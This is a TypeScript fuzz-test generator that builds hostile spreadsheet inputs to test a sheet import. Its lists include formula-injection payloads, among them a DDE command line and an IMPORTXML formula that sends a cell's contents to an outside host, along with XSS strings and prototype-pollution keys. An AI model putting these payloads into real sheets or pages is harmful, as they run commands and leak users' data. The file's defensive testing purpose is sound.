import fc from 'fast-check';
import {samplePortfolio} from '../../src/playbook/sample';
import {anyCharacter} from './any-character';

/** A sheet as somebody might paste it who wishes us ill: what to type into the cells of a tab, row by row. */
export interface HostileSheet {
  readonly rows: readonly (readonly unknown[])[];
}

/** Texts that a spreadsheet would run, were they written as they are. */
export const FORMULAS = [
  '=HYPERLINK("http://example.com","Click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\n=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u202e=1+1',
  '\u0007=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "'=1+1",
  "''=1+1",
  '=IMPORTXML("http://example.com/?"&A1,"//a")',
  '{=1+1}',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  'Acme\n=1+1',
  'Acme\t=1+1',
] as const;

/** Texts that a browser would run, were they written as HTML. */
export const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '"><b onmouseover=alert(1)>',
  "' onfocus='alert(1)' autofocus='",
  '<!-- ',
  '<?= 1 ?>',
  'javascript:alert(1)',
  '&lt;b&gt;&amp;',
  '{{account}}',
  '[one | {{two}}]',
  '{account}',
  '$& $1 $`',
] as const;

/** Names that every object of the language answers to. */
export const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  '__defineGetter__',
  'isPrototypeOf',
] as const;

/** Text that breaks programs which take text for granted. */
export const ODD_TEXTS = [
  'half \ud83d a face',
  '\udc00 tail',
  'upside \u202edown',
  '\u2066isolated\u2069',
  'nul \u0000 inside',
  '\u0001\u0002\u001f\u007f',
  '\ufffe\uffff',
  'a\u0301\u0323'.repeat(60),
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﷺ'.repeat(40),
  'İstanbul ıİ ß ẞ',
  '\u2028\u2029',
  '   ',
  '\u3000',
  '"',
  "'",
  '\\',
  ',;|\t',
] as const;

/** Texts and numbers at the ends of what a number can be. */
export const EDGES = [
  1e308,
  -1e308,
  1.7976931348623157e308,
  5e-324,
  -0,
  0,
  -1,
  9_007_199_254_740_992,
  1e21,
  0.1 + 0.2,
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '1e308',
  '-1e400',
  '0x10',
  '9'.repeat(400),
  `0.${'0'.repeat(400)}1`,
  '1/0',
  '0/0',
  '100000%',
  '-50%',
  '1e300%',
  '$1e308',
  '48/0',
  '0/50',
  '999999999999/1',
] as const;

/** Days at the ends of the calendar, as cells and as texts. */
export const DAYS = [
  new Date('1899-12-30T00:00:00Z'),
  new Date('1899-12-31T12:00:00Z'),
  new Date('1900-02-28T00:00:00Z'),
  new Date('1904-01-01T00:00:00Z'),
  new Date('1969-12-31T23:59:59Z'),
  new Date('2026-03-08T10:00:00Z'),
  new Date('2026-11-01T09:00:00Z'),
  new Date('9999-12-31T23:59:59Z'),
  '1899-12-30',
  '9999-12-31',
  '0000-00-00',
  '2026-02-30',
  '31/02/2027',
  '12/12/12',
  '2027-02-10T25:61:61Z',
  'Feb 30, 2027',
  '2027年2月30日',
  'in 999999999 days',
  '-999999999 days',
] as const;

const ERRORS = ['=1/0', '=NA()', '=NOSUCHFUNCTION()', '=A1', '=VALUE("x")', '#REF!', 'Loading...'] as const;

const TIDY = [
  ...['Acme', 'BetaCorp', '海洋科技', 'Zeta GmbH', '3M', '007', 'Q3', 'true', 'FALSE', 'yes', 'no', 'TBD', 'n/a', '-'],
  ...['$48,000', '48.000,00 €', '¥48万', '96%', '0.96', '48/50', 48, 50, 12, 48_000, 0.87, true, false],
  ...['Healthy', 'At-risk', 'OK', 'Strong', 'None', 'Multiple', 'Growing', '2027-02-10', '10/02/2027', 'Feb 10, 2027'],
  ...[new Date('2027-02-10T00:00:00Z'), new Date('2026-12-01T00:00:00Z'), 'Analytics, SSO', 'Total', 'Grand total', ''],
] as const;

/** A cell holds at most 50,000 characters, and a sheet may be full of such cells. */
const LONG = [
  'x'.repeat(50_000),
  `'${'='.repeat(49_000)}`,
  '9'.repeat(50_000),
  'long words '.repeat(4_500),
  '['.repeat(20_000),
];

const HEADINGS = samplePortfolio('2026-11-21')[0]!.map(String);

const hostileText = fc.oneof(
  fc.constantFrom(...FORMULAS),
  fc.constantFrom(...MARKUP),
  fc.constantFrom(...PROTOTYPE_NAMES),
  fc.constantFrom(...ODD_TEXTS),
  fc.string({unit: anyCharacter, maxLength: 12}),
);

/** Half of the texts that begin with an equals sign were forced to be text, the others are formulas of the user. */
const typedText = fc
  .tuple(hostileText, fc.boolean())
  .map(([text, forced]) => (forced || !text.startsWith('=') ? `'${text}` : text));

const hostileCell: fc.Arbitrary<unknown> = fc.oneof(
  {weight: 4, arbitrary: typedText},
  {weight: 3, arbitrary: fc.constantFrom<unknown>(...EDGES)},
  {weight: 2, arbitrary: fc.constantFrom<unknown>(...DAYS)},
  {weight: 1, arbitrary: fc.constantFrom<unknown>(...ERRORS)},
  {weight: 1, arbitrary: fc.double({noNaN: true, noDefaultInfinity: true})},
);

const tidyCell = fc.constantFrom<unknown>(...TIDY);

const heading = fc.oneof(
  {weight: 6, arbitrary: fc.constantFrom(...HEADINGS)},
  {weight: 1, arbitrary: typedText},
  {weight: 1, arbitrary: fc.constantFrom<string>(...PROTOTYPE_NAMES, '', 'ARR', 'Score', 'Customer')},
);

/** How much of a sheet is hostile: in tidy surroundings a single bad cell goes further than among its like. */
const hostility = fc.constantFrom(1, 3, 10);

/** Any sheet: titles above, headings, rows of every kind, now and then a cell as full as a cell can be. */
export const hostileSheet: fc.Arbitrary<HostileSheet> = fc
  .record({columns: fc.integer({min: 1, max: 14}), rows: fc.integer({min: 0, max: 10}), hostile: hostility})
  .chain(({columns, rows, hostile}) => {
    const cell = fc.oneof({weight: 6, arbitrary: tidyCell}, {weight: hostile, arbitrary: hostileCell});
    const row = fc.array(cell, {minLength: columns, maxLength: columns});
    const full = fc.record({text: fc.constantFrom(...LONG), row: fc.nat(rows), column: fc.nat(columns - 1)});
    return fc.record({
      titles: fc.array(fc.array(cell, {maxLength: 3}), {maxLength: 2}),
      headings: fc.array(heading, {minLength: columns, maxLength: columns}),
      isNamed: fc.nat(3).map((chance) => chance > 0),
      body: fc.array(row, {minLength: rows, maxLength: rows}),
      full: fc.oneof({weight: 39, arbitrary: fc.constant(null)}, {weight: 1, arbitrary: full}),
    });
  })
  .map(({titles, headings, isNamed, body, full}) => {
    const table = [isNamed ? ['Account', ...headings.slice(1)] : headings, ...body];
    if (full !== null) table[full.row]![full.column] = full.text;
    return {rows: [...titles, ...table]};
  });
